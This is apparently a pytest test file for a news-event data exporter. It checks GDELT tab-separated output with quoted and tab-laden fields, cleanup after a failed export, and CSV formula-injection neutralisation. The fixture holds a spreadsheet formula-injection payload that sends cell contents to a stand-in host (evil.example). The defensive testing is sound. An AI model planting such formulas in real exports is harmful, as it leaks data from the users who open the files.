"""Exports of hostile text (issue 16.3, 16.8): quotes in GDELT fields, formulas in CSV cells, no half files."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from newsevents import aggregate
from newsevents.export import export_gdelt, export_tables
from newsevents.export import gdelt as gdelt_module
from newsevents.export.tables import neutralise_formula
from newsevents.model import Actor
from newsevents.store import Store
from tests.handmade import make_result

EVENT = dict(cameo="112", source_code="XYZGOV", source_name='The "Iron" Council\tof\u2028Xyz', source_actor="A1",
             target_code=None, target_name=None, date="2024-10-15", goldstein=-2.0, quad_class=3,
             sentence="x", sentence_start=0, sentence_end=1, trigger="accused", trigger_start=0, trigger_end=1,
             rule="test", confidence=0.9)


@pytest.fixture
def hostile(store: Store) -> Store:
    actor = Actor(id="A1", article_id="", name='The "Iron" Council', kind="organization", code="XYZGOV")
    title = '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
    store.write_result(make_result(f"{title}\nThe council accused its rivals.", [EVENT],
                                   url='https://news.example/a"b', actors=[actor]))
    aggregate.update(store)
    return store


def test_gdelt_with_quotes_tabs_and_line_separators_is_written(hostile: Store, tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    out = tmp_path / "out" / "x.export.CSV"
    assert export_gdelt(hostile, out) == 1
    lines = out.read_text(encoding="utf-8").split("\n")
    assert lines[-1] == "" and len(lines) == 2 and lines[0].count("\t") == 60
    frame = pd.read_csv(out, sep="\t", header=None, dtype=str)  # default quoting: a '"' would swallow fields
    assert frame.shape == (1, 61)
    assert [p.name for p in out.parent.iterdir()] == ["x.export.CSV"]


def test_a_failed_export_leaves_no_temporary_file(hostile: Store, tmp_path: Path, monkeypatch) -> None:
    def broken(store: Store):
        yield ["1"] * 61
        raise OSError("disk full")

    monkeypatch.setattr(gdelt_module, "gdelt_rows", broken)
    with pytest.raises(OSError, match="disk full"):
        export_gdelt(hostile, tmp_path / "out" / "y.CSV")
    assert list((tmp_path / "out").iterdir()) == []


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile: Store, tmp_path: Path) -> None:
    [path] = export_tables(hostile, tmp_path, "csv", ["articles"])
    with path.open(encoding="utf-8", newline="") as fh:
        [row] = list(csv.DictReader(fh))
    assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1, "Click")'
    assert row["text"].startswith("'=HYPERLINK")


@pytest.mark.parametrize(("value", "exp"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), (-2.0, -2.0), (3, 3), ("", ""), ("a=b", "a=b"),
])
def test_neutralise_formula(value, exp) -> None:
    assert neutralise_formula(value) == exp
